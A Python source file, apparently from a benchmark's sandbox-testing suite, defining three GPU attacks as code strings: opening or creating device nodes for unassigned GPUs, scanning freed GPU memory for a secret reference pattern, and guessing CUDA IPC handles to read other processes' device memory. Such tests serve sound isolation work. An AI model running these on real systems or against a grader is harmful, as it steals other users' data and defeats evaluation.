"""Attacks that need a GPU."""

from __future__ import annotations

from functools import partial

from benchmarks.attacks.attack import Attack
from benchmarks.attacks.sight import holds_other_gpu

_gpu = partial(Attack, needs="gpu only", place="construct")

GPU = (
    _gpu(
        "other-gpus",
        "opens the device nodes of GPUs that it was not given, and makes such nodes",
        "for number in range(16):\n"
        "    hold(f'/dev/nvidia{number}', os.O_RDWR)\n"
        "    with contextlib.suppress(OSError):\n"
        "        os.mknod(f'gpu{number}', stat.S_IFCHR | 0o666, os.makedev(195, number))\n"
        "        hold(f'gpu{number}', os.O_RDWR)",
        during=holds_other_gpu,
    ),
    _gpu(
        "freed-device-memory",
        "takes all free memory of the GPU uninitialised and looks for the reference's pattern",
        "pieces = []\n"
        "with contextlib.suppress(RuntimeError):\n"
        "    while len(pieces) < 400:\n"
        "        pieces.append(torch.empty(512 << 20, dtype=torch.uint8, device='cuda'))\n"
        "del pieces[-8:]\n"
        "word = torch.tensor(list(b'egg-' + b'secret-reference-'), dtype=torch.uint8,\n"
        "                    device='cuda')\n"
        "for piece in pieces:\n"
        "    at = (piece[: -len(word)] == word[0]).nonzero()[:2_000_000, 0]\n"
        "    for number in range(1, len(word)):\n"
        "        at = at[piece[at + number] == word[number]]\n"
        "    for one in at[:4].tolist():\n"
        "        leak(bytes(piece[one : one + 64].cpu().tolist()), 'device memory')",
    ),
    _gpu(
        "device-memory-handles",
        "opens device memory of other processes by guessed CUDA IPC handles",
        "cuda = ctypes.CDLL('libcuda.so.1')\n"
        "class Handle(ctypes.Structure):\n"
        "    _fields_ = [('bytes', ctypes.c_char * 64)]\n"
        "mine = torch.ones(1 << 20, device='cuda')\n"
        "handle, pointer = Handle(), ctypes.c_void_p()\n"
        "print(cuda.cuIpcGetMemHandle(ctypes.byref(handle), ctypes.c_void_p(mine.data_ptr())))\n"
        "text = bytearray(bytes(handle))\n"
        "for pid in [*REFEREES, SERVER, ZYGOTE, *range(1, 64)]:\n"
        "    for at in range(0, 60, 4):\n"
        "        guess = bytearray(text)\n"
        "        guess[at : at + 4] = struct.pack('<I', pid)\n"
        "        other = Handle.from_buffer_copy(bytes(guess))\n"
        "        if cuda.cuIpcOpenMemHandle_v2(ctypes.byref(pointer), other, 1) == 0:\n"
        "            copy = ctypes.create_string_buffer(1 << 20)\n"
        "            cuda.cuMemcpyDtoH_v2(copy, pointer, len(copy))\n"
        "            leak(copy.raw, f'handle for {pid}')",
    ),
)
